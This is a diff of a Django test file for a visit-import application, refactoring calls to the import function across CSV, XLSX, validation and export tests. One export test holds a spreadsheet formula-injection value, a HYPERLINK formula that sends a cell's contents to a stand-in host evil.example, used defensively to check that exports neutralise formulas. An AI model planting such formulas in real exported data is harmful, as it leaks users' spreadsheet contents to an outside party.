@@ -13,10 +13,10 @@ from django.urls import reverse
 
 from allervers.operators.enums import Role
 from allervers.planning.enums import StopStatus
-from allervers.reception import services
 from allervers.reception.enums import VisitChangeKind, VisitSource
 from allervers.reception.importing import ImportRefused, visits_check
 from allervers.reception.models import Visit, VisitChange
+from allervers.reception.services.imports import visits_import
 from tests.html import text_of
 from tests.partners.factories import PartnerFactory
 from tests.planning.factories import SiteFactory, StopFactory
@@ -95,13 +95,11 @@ def test_one_bad_line_among_500_imports_nothing_and_is_named(operator, agent, to
         )
     ]
     with pytest.raises(ImportRefused):
-        services.visits_import(operator=operator, user=agent, name="visites.csv", content=content)
+        visits_import(operator=operator, user=agent, name="visites.csv", content=content)
     assert not Visit.objects.exists()
 
     corrected = _five_hundred(past_stops)
-    count = services.visits_import(
-        operator=operator, user=agent, name="visites.csv", content=corrected
-    )
+    count = visits_import(operator=operator, user=agent, name="visites.csv", content=corrected)
     assert count == 500
     assert Visit.objects.filter(operator=operator, source=VisitSource.IMPORTED).count() == 500
     assert VisitChange.objects.filter(kind=VisitChangeKind.IMPORTED).count() == 500
@@ -144,7 +142,7 @@ def test_an_xlsx_file_is_imported(operator, agent, topics, past_stops):
     sheet.append([value or None for value in row])
     stream = io.BytesIO()
     workbook.save(stream)
-    count = services.visits_import(
+    count = visits_import(
         operator=operator, user=agent, name="visites.xlsx", content=stream.getvalue()
     )
     assert count == 1
@@ -173,7 +171,7 @@ def test_the_documented_samples_import(operator, agent, topics, site, name):
     content = (SAMPLES / name).read_bytes()
     report = visits_check(operator=operator, name=name, content=content)
     assert report.line_errors == [] and report.file_errors == []
-    assert services.visits_import(operator=operator, user=agent, name=name, content=content) == 5
+    assert visits_import(operator=operator, user=agent, name=name, content=content) == 5
 
 
 @pytest.mark.parametrize(
@@ -200,7 +198,7 @@ def test_a_malformed_file_is_refused_in_french_and_nothing_is_saved(
     assert not report.is_valid
     assert message in " ".join(report.file_errors)
     with pytest.raises(ImportRefused):
-        services.visits_import(operator=operator, user=agent, name=name, content=content)
+        visits_import(operator=operator, user=agent, name=name, content=content)
     assert not Visit.objects.exists()
 
 
@@ -239,7 +237,7 @@ def test_a_cancelled_stop_is_refused(operator, topics, past_stops):
 def test_the_export_is_one_row_per_visit_and_reads_back(
     client, operator, coordinator, agent, topics, past_stops
 ):
-    services.visits_import(
+    visits_import(
         operator=operator,
         user=agent,
         name="v.csv",
@@ -265,7 +263,7 @@ def test_the_export_neutralises_formulas_and_reads_back(
     """A note or a name starting with = + - @ would run as a formula in a spreadsheet."""
     SiteFactory(operator=operator, name='=HYPERLINK("http://x")', slug="piege")
     note = '=HYPERLINK("http://evil.example/?"&A1)'
-    services.visits_import(
+    visits_import(
         operator=operator,
         user=agent,
         name="v.csv",
